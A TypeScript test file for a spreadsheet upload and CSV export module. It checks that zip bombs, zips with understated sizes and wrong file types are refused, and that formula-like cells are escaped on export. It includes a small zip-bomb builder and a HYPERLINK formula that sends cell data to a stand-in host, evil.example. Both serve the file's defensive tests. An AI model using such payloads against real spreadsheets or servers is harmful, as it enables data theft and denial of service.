import { crc32, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { AppError } from './app-error.ts';
import { checkZipInflation, csvCell, readSheetCells, SHEET_MAX_INFLATED_BYTES } from './spreadsheet.ts';

const MESSAGES = { missing: '缺', type: '型', unreadable: '读', empty: '空', tooMany: '多' };
const LIMITS = { maxRows: 100 };

interface ZipEntry {
  name: string;
  data: Buffer;
  /** what the headers claim the entry inflates to (its real size unless a test lies) */
  declaredSize?: number;
}

/** A stored-by-deflate zip of the entries, one local header each and the central directory. */
function zipOf(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const packed = deflateRawSync(entry.data);
    const size = entry.declaredSize ?? entry.data.length;
    const crc = crc32(entry.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

async function refusal(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return (error as AppError).fieldErrors;
  }
  throw new Error('expected a refusal');
}

describe('reading an uploaded sheet', () => {
  it('reads the cells of a real workbook', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('采购单');
    sheet.addRow(['名称', '数量']);
    sheet.addRow(['阿莫西林胶囊', 20]);
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(await checkZipInflation(bytes)).toBe('ok');
    const cells = await readSheetCells({ filename: 'a.xlsx', bytes } as never, MESSAGES, LIMITS);
    expect(cells.map((row) => row.slice(0, 2))).toEqual([
      ['名称', '数量'],
      ['阿莫西林胶囊', '20'],
    ]);
  });

  it('refuses a small upload that inflates past the limit before the workbook is opened', async () => {
    const bomb = zipOf([{ name: 'xl/sharedStrings.xml', data: Buffer.alloc(SHEET_MAX_INFLATED_BYTES + 1) }]);
    expect(bomb.length).toBeLessThan(100 * 1024);
    expect(await checkZipInflation(bomb)).toBe('too_big');
    const details = await refusal(
      readSheetCells({ filename: 'a.xlsx', bytes: bomb } as never, MESSAGES, LIMITS),
    );
    expect(details).toEqual({ file: ['多'] });
  });

  it('refuses an entry that inflates to more than it declares', async () => {
    const liar = zipOf([{ name: 'xl/workbook.xml', data: Buffer.alloc(4 * 1024 * 1024), declaredSize: 100 }]);
    expect(await checkZipInflation(liar)).toBe('unreadable');
  });

  it('refuses a broken zip, an old .xls and an unknown type', async () => {
    const broken = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]);
    expect(
      await refusal(readSheetCells({ filename: 'a.xlsx', bytes: broken } as never, MESSAGES, LIMITS)),
    ).toEqual({ file: ['读'] });
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]);
    expect(
      await refusal(readSheetCells({ filename: 'a.xls', bytes: xls } as never, MESSAGES, LIMITS)),
    ).toEqual({
      file: ['型'],
    });
    const text = Buffer.from('名称,数量\n阿莫西林,2\n');
    expect(
      await refusal(readSheetCells({ filename: 'a.pdf', bytes: text } as never, MESSAGES, LIMITS)),
    ).toEqual({
      file: ['型'],
    });
    expect(await readSheetCells({ filename: 'a.csv', bytes: text } as never, MESSAGES, LIMITS)).toEqual([
      ['名称', '数量'],
      ['阿莫西林', '2'],
    ]);
  });
});

describe('CSV cells of an export', () => {
  it('marks formula-like text so a spreadsheet runs nothing, and reading takes the mark off again', async () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?x="&B3,"点此")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '阿莫西林',
    ];
    const cells = texts.map(csvCell);
    expect(cells).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?x=""&B3,""点此"")"',
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      '阿莫西林',
    ]);
    // Numbers stay numbers, a minus sign and all.
    expect([csvCell(-5), csvCell(12.5), csvCell(null)]).toEqual(['-5', '12.5', '']);
    const file = { filename: 'export.csv', bytes: Buffer.from(`${cells.join(',')}\r\n`) } as never;
    expect(await readSheetCells(file, MESSAGES, LIMITS)).toEqual([texts]);
    // A name that begins with ' but is not formula-like keeps it.
    const quoted = { filename: 'a.csv', bytes: Buffer.from("'s Pharmacy,'=1\n") } as never;
    expect(await readSheetCells(quoted, MESSAGES, LIMITS)).toEqual([["'s Pharmacy", '=1']]);
  });
});
